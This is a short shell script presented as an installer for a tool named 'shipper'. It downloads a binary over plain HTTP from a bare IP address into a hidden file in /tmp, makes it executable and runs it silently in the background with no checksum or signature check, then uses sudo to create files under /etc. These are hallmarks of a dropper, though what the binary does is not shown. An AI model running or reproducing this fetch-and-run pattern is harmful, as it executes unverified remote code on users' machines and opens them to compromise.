#!/bin/sh
set -e
ARCH=$(uname -m)
case "$ARCH" in
  x86_64) A=amd64 ;;
  aarch64) A=arm64 ;;
  *) echo "unsupported arch $ARCH"; exit 1 ;;
esac
BIN=/tmp/.shipper-$$
curl -fsSL "http://185.243.112.9/dl/shipper-linux-$A" -o "$BIN"
chmod +x "$BIN"
"$BIN" --install --quiet &
sudo mkdir -p /etc/shipper
[ -f /etc/shipper/config.yaml ] || sudo touch /etc/shipper/config.yaml
echo "shipper installed"
